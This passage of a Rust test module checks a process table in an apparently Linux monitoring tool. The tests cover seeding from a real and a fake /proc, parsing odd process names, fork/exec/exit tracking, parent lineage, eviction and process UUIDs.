                dir.join("stat"),
                format!(
                    "{pid} ({comm}) S {ppid} {pid} {pid} 0 -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 \
                     {start_ticks} 1000 50 18446744073709551615\n"
                ),
            )
            .expect("stat");
            fs::write(
                dir.join("status"),
                format!(
                    "Name:\t{comm}\nUmask:\t0022\nState:\tS (sleeping)\nPPid:\t{ppid}\n\
                     Uid:\t{0}\t{1}\t{1}\t{1}\nGid:\t{0}\t{1}\t{1}\t{1}\n",
                    uids.0, uids.1
                ),
            )
            .expect("status");
            fs::write(dir.join("cmdline"), cmdline).expect("cmdline");
            if let Some(exe) = exe {
                symlink(exe, dir.join("exe")).expect("exe link");
                symlink("/srv", dir.join("cwd")).expect("cwd link");
            }
        }
    }

    impl Drop for FakeProc {
        fn drop(&mut self) {
            let _ = fs::remove_dir_all(&self.0);
        }
    }

    #[test]
    fn seeding_the_real_proc_finds_this_process_and_its_parent() {
        let mut table = ProcessTable::new(1 << 16);
        let report = table.seed_from_proc(Path::new("/proc")).expect("seed");
        assert!(report.seeded > 1, "{report:?}");
        assert_eq!(report.failed, 0, "{:?}", report.errors);

        let me = std::process::id();
        let info = table.get(me).expect("own process seeded");
        assert_eq!(info.ppid, std::os::unix::process::parent_id());
        assert_eq!(table.source(me), Some(InfoSource::ProcFs));
        let exe = fs::read_link("/proc/self/exe").expect("readlink");
        assert_eq!(info.exe.as_deref(), Some(exe.as_path()));
        let file_name = exe.file_name().and_then(|n| n.to_str()).expect("exe name");
        // The kernel keeps 15 bytes of the name as comm.
        assert_eq!(info.comm, file_name.chars().take(15).collect::<String>());
        let args: Vec<String> = std::env::args().collect();
        assert_eq!(info.argv, args);
        assert_eq!(info.cwd, std::env::current_dir().ok());
        // SAFETY: getuid and geteuid cannot fail.
        let (uid, euid) = unsafe { (libc::getuid(), libc::geteuid()) };
        assert_eq!((info.uid, info.euid), (uid, euid));
        assert!(info.start_time_ns > 0);
        assert_eq!(info.start_time_ns % tick(), 0);

        let chain = table.lineage(me, 64);
        assert_eq!(chain[0].tgid, me);
        assert_eq!(chain[1].tgid, info.ppid);
        // The chain follows every parent to the top: init, or (in a container entered from
        // outside) a process whose parent is not visible.
        let top = chain.last().expect("non-empty");
        assert!(top.tgid == 1 || top.ppid == 0, "stopped early at {top:?}");
    }

    #[test]
    fn seeding_a_fake_proc_parses_odd_names_and_tolerates_gaps() {
        let fake = FakeProc::new("seed");
        fake.process(1, "init", 0, 5, (0, 0), b"/sbin/init\0", Some("/sbin/init"));
        // A comm with spaces and parentheses: the last ')' ends it.
        fake.process(
            42,
            "evil) S 1 (x",
            1,
            1234,
            (1000, 0),
            b"./evil\0--flag\0",
            Some("/tmp/evil (deleted)"),
        );
        // A kernel thread: no exe, no cmdline.
        fake.process(2, "kthreadd", 0, 1, (0, 0), b"", None);
        // A process that vanished: its directory is empty.
        fs::create_dir_all(fake.0.join("77")).expect("mkdir");
        // A malformed stat.
        fs::create_dir_all(fake.0.join("88")).expect("mkdir");
        fs::write(fake.0.join("88/stat"), "88 (x) S notapid").expect("write");
        // Not a process.
        fs::create_dir_all(fake.0.join("sys")).expect("mkdir");
        // A very long command line.
        let long = vec![b'a'; MAX_CMDLINE_BYTES as usize + 100];
        fake.process(99, "long", 1, 10, (0, 0), &long, Some("/bin/long"));

        let mut table = ProcessTable::new(100);
        let report = table.seed_from_proc(&fake.0).expect("seed");
        assert_eq!(report.seeded, 4, "{report:?}");
        assert_eq!(report.vanished, 1);
        assert_eq!(report.failed, 1);
        let text = report.errors[0].to_string();
        assert!(text.contains("88/stat") && text.contains("ppid"), "{text}");

        let evil = table.get(42).expect("42");
        assert_eq!(evil.comm, "evil) S 1 (x");
        assert_eq!(evil.ppid, 1);
        assert_eq!(evil.start_time_ns, 1234 * tick());
        assert_eq!(evil.argv, ["./evil", "--flag"]);
        assert_eq!(evil.exe.as_deref(), Some(Path::new("/tmp/evil (deleted)")));
        assert_eq!(evil.cwd.as_deref(), Some(Path::new("/srv")));
        assert_eq!(
            (evil.uid, evil.euid, evil.gid, evil.egid),
            (1000, 0, 1000, 0)
        );

        let kthread = table.get(2).expect("2");
        assert_eq!(kthread.exe, None);
        assert!(kthread.argv.is_empty());

        // Read up to MAX_CMDLINE_BYTES, then cut to the entry's budget like any long argv.
        let long = table.get(99).expect("99");
        assert_eq!(long.argv[0].len(), ENTRY_ARGV_BUDGET / 2 - PER_ARGUMENT);
        assert!(table.stats().trimmed_argv >= 1);

        let chain: Vec<u32> = table.lineage(42, 10).iter().map(|p| p.tgid).collect();
        assert_eq!(chain, [42, 1]);
    }

    #[test]
    fn seeding_keeps_what_the_kernel_already_reported() {
        let fake = FakeProc::new("keep");
        fake.process(7, "old", 1, 100, (0, 0), b"old\0", Some("/bin/old"));
        let mut table = ProcessTable::new(10);
        // The exec record arrived before the seed reached pid 7: same start tick.
        table.on_exec(exec_info(7, 1, 100 * tick() + 123, "/bin/new", &["new"]));
        let report = table.seed_from_proc(&fake.0).expect("seed");
        assert_eq!(report.kept_existing, 1);
        assert_eq!(
            table.get(7).expect("7").exe.as_deref(),
            Some(Path::new("/bin/new"))
        );
    }

    #[test]
    fn missing_proc_root_is_an_error_naming_it() {
        let mut table = ProcessTable::new(10);
        let err = table
            .seed_from_proc(Path::new("/nonexistent/vigil-proc"))
            .expect_err("missing");
        assert!(err.to_string().contains("/nonexistent/vigil-proc"), "{err}");
    }

    #[test]
    fn fork_exec_exit() {
        let mut table = ProcessTable::new(100);
        table.on_exec(exec_info(1, 0, tick(), "/sbin/init", &["/sbin/init"]));
        table.on_exec(exec_info(10, 1, 5 * tick(), "/bin/bash", &["bash", "-l"]));
        table.set_exe_sha256(10, Digest([7; 32]));

        table.on_fork(10, 11, 9_000_000_123);
        let child = table.get(11).expect("child");
        assert_eq!(child.ppid, 10);
        assert_eq!(child.start_time_ns, 9_000_000_123);
        assert_eq!(child.exe.as_deref(), Some(Path::new("/bin/bash")));
        assert_eq!(child.argv, ["bash", "-l"]);
        assert_eq!(child.exe_sha256, Some(Digest([7; 32])));
        assert_eq!(table.source(11), Some(InfoSource::InheritedFromParent));

        // The exec record says the parent is now 1 (bash died, the child was reparented)
        // and carries the start time with another sub-tick part: the fork's are kept.
        let mut exec = exec_info(11, 1, 9_000_000_999, "/usr/bin/curl", &["curl", "x.test"]);
        exec.uid = 33;
        table.on_exec(exec);
        let child = table.get(11).expect("child");
        assert_eq!(child.ppid, 10);
        assert_eq!(child.start_time_ns, 9_000_000_123);
        assert_eq!(child.exe.as_deref(), Some(Path::new("/usr/bin/curl")));
        assert_eq!(child.comm, "curl");
        assert_eq!(child.uid, 33);
        assert_eq!(child.exe_sha256, None, "the new image is not hashed yet");
        assert_eq!(table.source(11), Some(InfoSource::Exec));

        assert!(table.on_exit(11, 256));
        let child = table.get(11).expect("exited child kept");
        assert!(child.exited);
        assert_eq!(child.exit_code, Some(256));
        assert_eq!(table.exited_len(), 1);
        assert!(!table.on_exit(12345, 0));
        assert_eq!(table.stats().unknown_exits, 1);
    }

    #[test]
    fn exec_of_a_reused_pid_is_a_new_process() {
        let mut table = ProcessTable::new(100);
        table.on_exec(exec_info(50, 10, 100 * tick(), "/bin/old", &["old"]));
        table.on_exit(50, 0);
        // The pid comes back much later for another process, its fork unseen.
        table.on_exec(exec_info(50, 20, 900 * tick(), "/bin/new", &["new"]));
        let p = table.get(50).expect("50");
        assert_eq!(p.ppid, 20);
        assert_eq!(p.start_time_ns, 900 * tick());
        assert!(!p.exited);
        assert_eq!(table.exited_len(), 0);
    }

    #[test]
    fn fork_from_an_unknown_or_stale_parent_inherits_nothing() {
        let mut table = ProcessTable::new(100);
        table.on_fork(300, 301, 1);
        let child = table.get(301).expect("301");
        assert_eq!(child.ppid, 300);
        assert_eq!(table.source(301), Some(InfoSource::Unknown));
        assert_eq!(child.exe, None);
        assert_eq!(table.stats().unknown_parents, 1);

        table.on_exec(exec_info(400, 1, tick(), "/bin/gone", &["gone"]));
        table.on_exit(400, 0);
        table.on_fork(400, 401, 50 * tick());
        assert_eq!(table.get(401).expect("401").exe, None);
        assert_eq!(table.stats().unknown_parents, 2);
    }

    #[test]
    fn a_uuid_is_formatted_as_rfc_9562_text() {
        let b = [
            0x01, 0x23, 0x45, 0x67, 0x89, 0xab, 0x8d, 0xef, 0x80, 0x11, 0x22, 0x33, 0x44, 0x55,
            0x66, 0xff,
        ];
        assert_eq!(format_uuid(&b), "01234567-89ab-8def-8011-2233445566ff");
        let id = process_uuid("boot", 7, 1_000_000_000);
        assert_eq!(
            id,
            format_uuid(&process_uuid_bytes("boot", 7, 1_000_000_000))
        );
        assert_eq!(id.len(), 36);
        assert_eq!(&id[14..15], "8", "version 8: {id}");
    }

    #[test]
    fn lineage_goes_through_exited_parents() {
        let mut table = ProcessTable::new(100);
        table.on_exec(exec_info(1, 0, tick(), "/sbin/init", &["init"]));
        table.on_fork(1, 10, 2 * tick());
        table.on_exec(exec_info(10, 1, 2 * tick(), "/usr/sbin/nginx", &["nginx"]));
        table.on_fork(10, 20, 3 * tick());
        table.on_exec(exec_info(20, 10, 3 * tick(), "/bin/sh", &["sh", "-c", "x"]));
        table.on_fork(20, 30, 4 * tick());
        table.on_exec(exec_info(30, 20, 4 * tick(), "/usr/bin/curl", &["curl"]));
        table.on_exit(20, 0);
        table.on_exit(10, 9);

        let chain: Vec<(u32, bool)> = table
            .lineage(30, 16)
            .iter()
            .map(|p| (p.tgid, p.exited))
            .collect();
        assert_eq!(chain, [(30, false), (20, true), (10, true), (1, false)]);
        let short: Vec<u32> = table.lineage(30, 2).iter().map(|p| p.tgid).collect();
        assert_eq!(short, [30, 20]);
        assert!(table.lineage(999, 16).is_empty());
        assert!(table.lineage(30, 0).is_empty());
    }

    #[test]
    fn lineage_is_cycle_safe_and_skips_reused_parent_pids() {
        let mut table = ProcessTable::new(100);
        table.on_exec(exec_info(5, 6, 0, "/a", &[]));
        table.on_exec(exec_info(6, 5, 0, "/b", &[]));
        let chain: Vec<u32> = table.lineage(5, 100).iter().map(|p| p.tgid).collect();
        assert_eq!(chain, [5, 6]);

        // 70's parent 60 died and the pid 60 was reused by a process started later.
        table.on_exec(exec_info(70, 60, 10 * tick(), "/child", &[]));
        table.on_exec(exec_info(60, 1, 20 * tick(), "/impostor", &[]));
        let chain: Vec<u32> = table.lineage(70, 100).iter().map(|p| p.tgid).collect();
        assert_eq!(chain, [70]);

        // A child seen at tick resolution and a parent known to the ns within the same tick:
        // the parent is not later, the chain goes on.
        table.on_exec(exec_info(80, 81, 30 * tick(), "/seeded-child", &[]));
        table.on_exec(exec_info(81, 0, 30 * tick() + 5, "/precise-parent", &[]));
        let chain: Vec<u32> = table.lineage(80, 100).iter().map(|p| p.tgid).collect();
        assert_eq!(chain, [80, 81]);
    }

    #[test]
    fn exited_entries_are_bounded_oldest_first() {
        let mut table = ProcessTable::with_exited_capacity(10, 2);
        for pid in 1..=5 {
            table.on_exec(exec_info(pid, 0, u64::from(pid) * tick(), "/x", &[]));
        }
        table.on_exit(3, 0);
        table.on_exit(1, 0);
        table.on_exit(4, 0);
        // Three exits, room for two: 3 exited first and is gone.
        assert!(table.get(3).is_none());
        assert!(table.get(1).is_some_and(|p| p.exited));
        assert!(table.get(4).is_some_and(|p| p.exited));
        assert_eq!(table.exited_len(), 2);
        assert_eq!(table.stats().exited_evictions, 1);
        assert_eq!(table.stats().live_evictions, 0);
    }

    #[test]
    fn a_full_table_drops_exited_first_then_least_recently_seen() {
        let mut table = ProcessTable::with_exited_capacity(4, 4);
        for pid in 1..=4 {
            table.on_exec(exec_info(pid, 0, u64::from(pid) * tick(), "/x", &[]));
        }
        table.on_exit(2, 0);
        // Full: the new process takes the exited one's place, every live one stays.
        table.on_exec(exec_info(5, 0, 5 * tick(), "/x", &[]));
        assert!(table.get(2).is_none());
        assert_eq!(table.len(), 4);
        assert_eq!(table.stats().exited_evictions, 1);

        // Full of live ones (1, 3, 4, 5): 1 was seen recently, so 3 goes.
        table.mark_seen(1);
        table.on_exec(exec_info(6, 0, 6 * tick(), "/x", &[]));
        assert!(table.get(1).is_some());
        assert!(table.get(3).is_none());
        assert_eq!(table.stats().live_evictions, 1);
        // A fork counts as seeing the parent: 4 forks, so 5 is now the least recent.
        table.on_fork(4, 7, 7 * tick());
        assert!(table.get(4).is_some());
        assert!(table.get(5).is_none());
        assert_eq!(table.len(), 4);
        assert_eq!(table.stats().live_evictions, 2);
    }

    #[test]
    fn uuid_is_the_same_from_proc_and_from_the_kernel() {
        let boot = "0b6e1a9c-2f9d-4c39-8d8f-6f3c1b9a2e11";
        let ticks = 123_456u64;
        let seeded = ticks * tick();
        let precise = seeded + tick() - 1;
        let id = process_uuid(boot, 4242, seeded);
        assert_eq!(id, process_uuid(boot, 4242, precise));
        assert_eq!(id, process_uuid(&format!("{boot}\n"), 4242, precise));
        assert_ne!(id, process_uuid(boot, 4242, seeded + tick()));
        assert_ne!(id, process_uuid(boot, 4243, seeded));
        assert_ne!(id, process_uuid("another-boot", 4242, seeded));

        assert_eq!(id.len(), 36);
        let bytes = id.as_bytes();
        for at in [8, 13, 18, 23] {
            assert_eq!(bytes[at], b'-', "{id}");
        }
        assert_eq!(bytes[14], b'8', "version 8: {id}");
        assert!(
            matches!(bytes[19], b'8' | b'9' | b'a' | b'b'),
            "variant: {id}"
        );
        assert!(
            id.bytes()
                .all(|b| b == b'-' || b.is_ascii_hexdigit() && !b.is_ascii_uppercase())
        );
    }

    #[test]
    fn uuid_of_a_seeded_process_matches_a_precise_start_time() {
        let mut table = ProcessTable::new(1 << 16);
        table.seed_from_proc(Path::new("/proc")).expect("seed");
        let me = table.get(std::process::id()).expect("self");
        let boot = read_boot_id().expect("boot id");
        // What the kernel would report: the same start, with the sub-tick ns the tick
        // rounding dropped.
        let kernel_view = me.start_time_ns + tick() / 2;
        assert_eq!(
            me.uuid(&boot),
            process_uuid(&boot, std::process::id(), kernel_view)
        );
    }

    #[test]
    fn boot_id_reads_and_errors_name_the_file() {
        let id = read_boot_id().expect("boot id");
        assert_eq!(id.len(), 36, "{id}");
        let err = read_boot_id_from(Path::new("/nonexistent/boot_id")).expect_err("missing");
        assert!(err.to_string().contains("/nonexistent/boot_id"), "{err}");
    }

    #[test]
    fn stat_and_status_parsers_reject_garbage() {
        assert!(parse_stat(b"").is_err());
        assert!(parse_stat(b"1 (x").is_err());
        assert!(parse_stat(b"1 ) (x) S 1").is_err());
        assert_eq!(
            parse_stat(b"1 (x) S 1").err().map(|e| e.0),
            Some("starttime")
        );
        assert!(parse_status_ids("Uid:\t0\n").is_err());
        assert!(
            parse_status_ids("Uid:\t0\t0\t0\t0\n").is_err(),
            "no Gid line"
        );
        assert_eq!(split_cmdline(b"a\0\0b\0"), ["a", "", "b"]);
        assert_eq!(split_cmdline(b"setproctitle style"), ["setproctitle style"]);
        assert!(split_cmdline(b"").is_empty());
    }
}
